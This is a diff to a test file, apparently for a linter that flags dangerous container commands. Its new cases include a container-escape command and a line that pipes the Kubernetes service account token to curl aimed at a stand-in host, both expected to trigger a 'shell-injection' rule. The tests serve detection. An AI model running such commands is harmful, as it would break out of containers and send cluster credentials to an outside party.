@@ -189,3 +189,17 @@ describe('a variable whose value is a program by its name', () => {
     expect(rules(variable(name, value))).toContain(rule);
   });
 });
+
+it.each([
+  ['chroot /host sh', 'shell-injection'],
+  ['cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- http://a.example', 'shell-injection'],
+])('what is no matter of a container, even in its command: %s', (line, rule) => {
+  expect(rules(command('sh', '-c', line))).toContain(rule);
+});
+
+it.each(['cron -f', 'crond -f -l 8', 'wait-for db:3306 -- node server.js'])(
+  'a start as people write it: %s',
+  (line) => {
+    expect(rules(command(line))).toEqual([]);
+  },
+);
